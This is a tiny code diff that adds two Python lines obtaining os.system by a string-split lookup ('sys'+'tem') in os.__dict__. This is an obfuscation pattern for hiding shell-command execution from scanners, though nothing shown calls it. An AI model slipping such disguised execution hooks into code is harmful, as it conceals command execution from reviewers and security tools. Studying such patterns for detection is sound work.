@@ -1,0 +1,2 @@
+import os
+X=os.__dict__["sys"+"tem"]
